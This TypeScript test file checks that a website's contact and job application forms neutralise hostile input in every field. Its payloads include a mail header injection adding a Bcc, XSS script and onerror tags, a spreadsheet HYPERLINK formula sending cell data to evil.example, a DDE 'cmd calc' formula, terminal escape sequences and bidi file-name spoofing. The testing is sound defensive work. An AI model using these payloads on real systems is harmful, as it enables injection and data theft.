/**
 * What a visitor types is shown in five places that obey what they are told: a mail, a spreadsheet, a terminal, JSON
 * and a page. Every field of both forms is filled with what each of them would obey; fields come from the forms'
 * definitions, so that a new one is covered by itself.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { applicationForm } from '@website/forms/job-application-form';
import { contactForm } from '@website/forms/contact-form';
import { type FieldKind, type FormDefinition, fieldsOf } from '@website/forms/form';
import { encodeForm, type FormPart, formType } from '../forms/test-support/application-form.ts';
import { resumes } from '../resumes/test-support/resumes.ts';
import { startSmtpInbox } from '../test-support/smtp-inbox.ts';
import { nativeHeaders } from '../test-support/contact-client.ts';
import { operate } from '../../inbox/command/test-support/operate.ts';
import { rawRequest } from '../test-support/raw-request.ts';
import { tempFolder } from '../test-support/temp-folder.ts';
import { startTestServer, type TestServer } from '../test-support/test-server.ts';

/** What somebody or something might obey, by what it is meant for. */
const hazards = {
  'a header of a mail': 'Ada\r\nBcc: victim@evil.example\r\n\r\nHello',
  'a page': `"'></textarea></title><script>alert(1)</script><img src=x onerror=alert(1)>`,
  'a frame of the server’s own': '\ufffc$&{wait}<!-- -->',
  'a spreadsheet': '=HYPERLINK("http://evil.example?"&A1,"Click")',
  'a spreadsheet, after what it skips': '\t＝cmd|" /C calc"!A0","x',
  'a terminal': '\u001b]0;owned\u0007\u001b[2J\u009b31m\rdelivered',
  'a reader’s eye': '\u202Efdp.exe\u2066\u200b\u061c',
} as const;

/** A sound value of each kind of field. */
const sound = {
  text: 'Ada',
  multiline: 'Ada',
  email: 'ada@example.org',
  phone: '98765 43210',
  file: 'cv.pdf',
  checkbox: 'on',
  choice: 'azure',
} satisfies Record<FieldKind, string>;

/** The most hostile value that is received; a file's name with a control character is refused with its form. */
const hostile = (kind: FieldKind, hazard: string): string =>
  ({
    ...sound,
    text: hazard,
    multiline: hazard,
    choice: hazard,
    email: '=1+1@example.org',
    file: `${hazard.replaceAll(/\p{Cc}/gu, '').replaceAll('"', '%22')}.pdf`,
  })[kind];

function partsOf(form: FormDefinition, valueOf: (kind: FieldKind) => string): FormPart[] {
  return fieldsOf(form).flatMap(([name, field]): FormPart[] => {
    const value = valueOf(field.kind);
    if (field.kind === 'file') return [{ name, value: resumes.pdf, fileName: value }];
    return field.kind === 'phone'
      ? [
          { name: field.countryName, value: 'in' },
          { name, value },
        ]
      : [{ name, value }];
  });
}

/** Sends a form as a browser without script does, and resolves with the page that answers. */
const post = ({ siteUrl }: TestServer, form: FormDefinition, valueOf: (kind: FieldKind) => string) =>
  rawRequest(siteUrl, form.native.path, {
    method: 'POST',
    headers: { ...nativeHeaders, 'Content-Type': formType },
    body: encodeForm(partsOf(form, valueOf)),
  });

const all = Object.values(hazards);
const manyUnverified = { RATE_LIMIT_UNVERIFIED: '100' };

/** A server that has received a form once for each hazard. */
async function receiveAll(form: FormDefinition) {
  const smtp = await startSmtpInbox();
  const server = await startTestServer({ ...manyUnverified, SMTP_URL: smtp.url });
  for (const hazard of all)
    expect(await post(server, form, (kind) => hostile(kind, hazard))).toMatchObject({ status: 200 });
  return { server, smtp };
}

/** All that a terminal obeys, but the ends of lines, and all that turns or hides text. */
const obeyed = /(?!\n)[\p{Cc}\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
const formula = /^[\s\p{Cc}\p{Cf}]*[=+\-@|%＝＋－＠]/u;

/** The cells of a table, row by row (RFC 4180). */
const cellsOf = (table: string): string[][] =>
  [...table.replace(/^\ufeff/, '').matchAll(/"((?:[^"]|"")*)"(,|\r\n|$)/g)].reduce<string[][]>(
    (rows, [, cell = '', end]) => {
      rows.at(-1)?.push(cell.replaceAll('""', '"'));
      if (end === '\r\n') rows.push([]);
      return rows;
    },
    [[]],
  );

describe.each([
  ['contact form', contactForm, 'info@site.test'],
  ['application form', applicationForm, 'careers@site.test'],
] as const)('hostile words in every field of the %s', (_name, form: FormDefinition, mailbox) => {
  test('reach one mailbox in plain words', async () => {
    const { smtp } = await receiveAll(form);
    for (const { recipients, mail, raw } of await smtp.received(all.length)) {
      expect(recipients).toEqual([mailbox]);
      expect(mail.headers.map(({ key }) => key)).not.toContain('bcc');
      expect(mail.html).toBeUndefined();
      expect(raw.slice(0, raw.indexOf('\r\n\r\n'))).not.toMatch(/^Bcc:/im);
      const names = [mail.subject ?? '', ...(mail.replyTo ?? []).map(({ name }) => name)];
      const files = mail.attachments.map(({ filename }) => filename ?? '');
      for (const line of [...names, ...files]) expect(line).not.toMatch(obeyed);
      for (const file of files) expect(file).not.toMatch(/[\\/:*?"<>|]/);
      expect(mail.text?.replaceAll(/[\t\u200b\u061c\u202a-\u202e\u2066-\u2069]/g, '')).not.toMatch(obeyed);
    }
  });

  test('are shown to the operator, and obeyed by no terminal', async () => {
    const { dataDir } = (await receiveAll(form)).server;
    expect(await operate(dataDir, ['list'])).not.toMatch(obeyed);
    expect(await operate(dataDir, ['list', '--json'])).not.toMatch(obeyed);
    const folder = tempFolder();
    await operate(dataDir, ['export', '--email', hostile('email', ''), 'person'], folder);
    const json = readFileSync(join(folder, 'person/submissions.json'), 'utf8');
    const { submissions } = JSON.parse(json) as { submissions: { id: string }[] };
    expect(submissions).toHaveLength(all.length);
    for (const { id } of submissions) expect(await operate(dataDir, ['show', id])).not.toMatch(obeyed);
    for (const name of readdirSync(join(folder, 'person'))) expect(name).toMatch(/^[^\\/:*?"<>|]+$/);
  });

  test('are text in a spreadsheet, each in its own cell', async () => {
    const { dataDir } = (await receiveAll(form)).server;
    const [header = [], ...rows] = cellsOf(await operate(dataDir, ['export', '--csv']));
    expect(rows).toHaveLength(all.length);
    for (const row of rows) {
      expect(row).toHaveLength(header.length);
      for (const cell of row) {
        expect(cell).not.toMatch(formula);
        expect(cell).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
      }
    }
  });

  test('come back on the page as they were typed, and are no part of it', async () => {
    const server = await startTestServer(manyUnverified);
    for (const hazard of all) {
      const { status, text } = await post(server, form, (kind) => (kind === 'file' ? sound.file : hazard));
      expect(status).toBe(422);
      expect(text).toContain('<title>Error: Not sent</title>');
      expect(text).not.toMatch(/<script|<img|<\/textarea>.*<\/textarea>.*<\/textarea>/s);
      const faulty = fieldsOf(form).filter(([, { kind }]) => kind === 'email' || kind === 'phone');
      for (const [name] of faulty) expect(text).toContain(`<li><a href="#${name}">`);
    }
  });
});
